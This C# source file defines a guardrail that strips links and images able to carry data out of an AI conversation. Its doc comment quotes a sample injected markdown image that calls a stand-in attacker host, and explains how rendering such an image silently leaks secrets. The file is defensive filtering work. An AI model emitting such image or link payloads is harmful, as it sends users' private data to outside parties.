using System.Text.RegularExpressions;

namespace GoldenPath.Guardrails;

/// <summary>
/// Removes links and images that could carry data out of the conversation. A client that renders markdown
/// fetches an image without any click, so an injected <c>![](https://attacker/?q=secret)</c> leaks silently.
/// A link is removed when its host is not allowed or its query string carries a long or encoded value;
/// the visible text (link text, image alt text) stays.
/// </summary>
internal sealed partial class ExfiltrationRail(ExfiltrationRailSettings settings, LinkPolicy links) : IRail
{
    public const string Name = "exfiltration";
    public const string ImageCategory = "untrusted-image";
    public const string LinkCategory = "untrusted-link";

    public void Evaluate(RailContext context)
    {
        var view = context.Text.Clean;
        var text = view.Text;
        if (!text.Contains("//", StringComparison.Ordinal) && !text.Contains(':', StringComparison.Ordinal))
        {
            // Every link the rail cares about has a scheme or a protocol-relative prefix.
            return;
        }

        var claimed = new SpanSet();
        var images = new Removals();
        var others = new Removals();

        foreach (Match match in MarkdownImage().Matches(text))
        {
            Consider(view, claimed, images, match, match.Groups["url"].Value, match.Groups["text"].Value);
        }

        foreach (Match match in HtmlImage().Matches(text))
        {
            Consider(view, claimed, images, match, Attribute(match.Value, "src"), Attribute(match.Value, "alt"));
        }

        foreach (Match match in MarkdownLink().Matches(text))
        {
            Consider(view, claimed, others, match, match.Groups["url"].Value, match.Groups["text"].Value);
        }

        foreach (Match match in HtmlAnchor().Matches(text))
        {
            Consider(view, claimed, others, match, Attribute(match.Groups["open"].Value, "href"), match.Groups["text"].Value);
        }

        foreach (Match match in ReferenceDefinition().Matches(text))
        {
            Consider(view, claimed, others, match, match.Groups["url"].Value, string.Empty);
        }

        foreach (Match match in BareUrl().Matches(text))
        {
            Consider(view, claimed, others, match, match.Value, RedactionEdit.TokenFor("url"));
        }

        images.ReportTo(context, settings.Action, ImageCategory);
        others.ReportTo(context, settings.Action, LinkCategory);
    }

    private void Consider(TextView view, SpanSet claimed, Removals removals, Match match, string url, string visibleText)
    {
        var span = view.ToRaw(match.Index, match.Length);
        if (claimed.Overlaps(span))
        {
            // Already judged as part of an enclosing image or link.
            return;
        }

        claimed.TryAdd(span);
        if (!links.IsAllowed(url, settings.MaxQueryValueLength))
        {
            removals.Add(span, visibleText);
        }
    }

    private static string Attribute(string tag, string name)
    {
        foreach (Match attribute in HtmlAttribute().Matches(tag))
        {
            if (attribute.Groups["name"].Value.Equals(name, StringComparison.OrdinalIgnoreCase))
            {
                return System.Net.WebUtility.HtmlDecode(attribute.Groups["value"].Value);
            }
        }

        return string.Empty;
    }

    private sealed class Removals
    {
        private List<EvidenceSpan>? _spans;
        private List<string>? _replacements;

        public void Add(EvidenceSpan span, string replacement)
        {
            (_spans ??= []).Add(span);
            (_replacements ??= []).Add(replacement);
        }

        public void ReportTo(RailContext context, RailAction action, string category)
        {
            if (_spans is not null)
            {
                context.Report(Name, action, category, 1.0, _spans, _replacements);
            }
        }
    }

    // Atomic: nothing after the URL can be part of it, and backtracking through 4096 characters per "![" is how a hostile answer stalls the rail.
    private const string UrlPart = @"\(\s*<?(?<url>(?>[^\s<>()]{1,4096}))>?(?:\s+(?:""[^""\n]{0,300}""|'[^'\n]{0,300}'))?\s*\)";

    [GeneratedRegex(@"!\[(?<text>[^\]\n]{0,1000})\]" + UrlPart)]
    private static partial Regex MarkdownImage();

    [GeneratedRegex(@"(?<!!)\[(?<text>[^\]\n]{0,1000})\]" + UrlPart)]
    private static partial Regex MarkdownLink();

    [GeneratedRegex(@"^[ \t]{0,3}\[[^\]\n]{1,300}\]:[ \t]*<?(?<url>[^\s>]{1,4096})>?[^\n]*$", RegexOptions.Multiline)]
    private static partial Regex ReferenceDefinition();

    [GeneratedRegex(@"<img\b[^>]{0,2000}>", RegexOptions.IgnoreCase)]
    private static partial Regex HtmlImage();

    [GeneratedRegex(@"(?<open><a\b[^>]{0,2000}>)(?<text>[\s\S]{0,2000}?)</a\s*>", RegexOptions.IgnoreCase)]
    private static partial Regex HtmlAnchor();

    [GeneratedRegex(@"(?<name>[a-zA-Z-]+)\s*=\s*(?:""(?<value>[^""]*)""|'(?<value>[^']*)'|(?<value>[^\s>]+))")]
    private static partial Regex HtmlAttribute();

    [GeneratedRegex(@"(?:\b(?:https?|ftp)://|(?<![\w/])//(?=[\w-]+\.[\w.-]+/))[^\s<>""'`()\[\]{}]{0,4095}[^\s<>""'`()\[\]{}.,;:!?]", RegexOptions.IgnoreCase)]
    private static partial Regex BareUrl();
}
